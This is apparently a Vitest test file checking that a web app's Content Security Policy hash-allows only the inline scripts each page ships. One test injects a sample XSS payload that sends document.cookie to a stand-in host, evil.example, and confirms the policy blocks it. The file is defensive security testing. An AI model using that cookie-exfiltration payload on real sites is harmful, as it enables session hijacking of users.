/**
 * The page content policy on the built pages (issue 34 item 1): every inline script a page
 * ships is allowed by its hash, because each is known before any request (the product's own,
 * Astro's, the build's inlined ones); the policy allows no other, so a script an injection put
 * into a page would not run; and it covers everything by default.
 */
import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pagePolicy } from '../../src/server/http/security-headers';
import { bootServer, DIST, type BootedServer } from './helpers/boot';

const PAGES = [
  '/',
  '/?lang=en',
  '/?lang=jp',
  '/game/results/all',
  '/login',
  '/register',
  '/admin',
  '/embed-demo',
  '/odds/dropping',
  '/inplay/league/details/1',
];

const INLINE = /<script\b([^>]*)>([\s\S]*?)<\/script\s*>/gi;
const runnable = (attributes: string) =>
  !/\ssrc\s*=|application\/(ld\+)?json/i.test(` ${attributes}`);
const sha = (text: string) =>
  `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;

describe('the page content policy', { timeout: 60_000 }, () => {
  let server: BootedServer;
  beforeAll(async () => {
    if (!existsSync(path.join(DIST, 'inline-script-hashes.json')))
      throw new Error('No dist/inline-script-hashes.json: run `npm run build` first.');
    server = await bootServer();
  });
  afterAll(async () => {
    await server?.stop();
  });

  it.each(PAGES)('%s allows exactly the inline scripts it ships', async (page) => {
    const res = await fetch(`${server.url}${page}`);
    const html = await res.text();
    const policy = res.headers.get('content-security-policy') ?? '';
    const scripts = [...html.matchAll(INLINE)].filter(([, attributes = '']) =>
      runnable(attributes),
    );
    const shipped = new Set(scripts.map(([, , body = '']) => sha(body)));
    const allowed = new Set(
      /script-src ([^;]*)/
        .exec(policy)?.[1]
        ?.split(' ')
        .filter((s) => s.startsWith("'sha256-")),
    );
    expect(
      [...shipped].filter((h) => !allowed.has(h)),
      `${page}: shipped but not allowed`,
    ).toEqual([]);
    expect(
      [...allowed].filter((h) => !shipped.has(h)),
      `${page}: allowed but not shipped`,
    ).toEqual([]);
    for (const directive of [
      "default-src 'self'",
      "object-src 'none'",
      "base-uri 'none'",
      "form-action 'self'",
    ])
      expect(policy, page).toContain(directive);
    expect(policy).not.toMatch(/script-src[^;]*unsafe/);
  });

  it('would not allow a script injected into a page', async () => {
    const html = await (await fetch(`${server.url}/`)).text();
    const injected = html.replace(
      '</body>',
      '<script>fetch("//evil.example/"+document.cookie)</script></body>',
    );
    const policy = pagePolicy(injected, {
      embedOrigins: [],
      ...server.app.services.pagePolicy,
    });
    expect(policy).not.toContain(sha('fetch("//evil.example/"+document.cookie)'));
    // The page's own scripts still are.
    const own = [...html.matchAll(INLINE)]
      .filter(([, a = '']) => runnable(a))
      .map(([, , b = '']) => sha(b));
    for (const hash of own) expect(policy).toContain(hash);
  });
});
